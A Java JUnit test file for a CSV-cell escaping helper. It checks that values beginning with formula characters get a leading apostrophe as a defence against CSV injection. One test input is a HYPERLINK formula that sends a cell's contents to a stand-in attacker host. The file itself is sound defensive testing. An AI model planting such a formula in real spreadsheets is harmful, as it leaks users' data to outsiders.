package id.dinsos.rentan.http;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** CSV injection (OWASP): a text cell a spreadsheet would run as a formula gets a leading apostrophe. */
class CsvCellsTest {

    @Test
    void aCellStartingWithAFormulaCharacter_getsALeadingApostrophe() {
        assertThat(CsvCells.text("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvCells.text("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")");
        assertThat(CsvCells.text("+6281234567890")).isEqualTo("'+6281234567890");
        assertThat(CsvCells.text("@SUM(A1:A2)")).isEqualTo("'@SUM(A1:A2)");
        assertThat(CsvCells.text("-Budi")).isEqualTo("'-Budi");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\t=1+1", "\r=1+1", "\t", "\r"})
    void aCellStartingWithATabOrCarriageReturn_getsALeadingApostrophe(String value) {
        assertThat(CsvCells.text(value)).isEqualTo("'" + value);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Budi Santoso", "3671021203790001", "25031234567", "SG", "KPJ_MISSING", "", "a=b", "O'Brien", "'quoted"})
    void anyOtherCell_isLeftAsItIs(String value) {
        assertThat(CsvCells.text(value)).isEqualTo(value);
    }

    @Test
    void noValue_isAnEmptyCell() {
        assertThat(CsvCells.text(null)).isEmpty();
    }
}
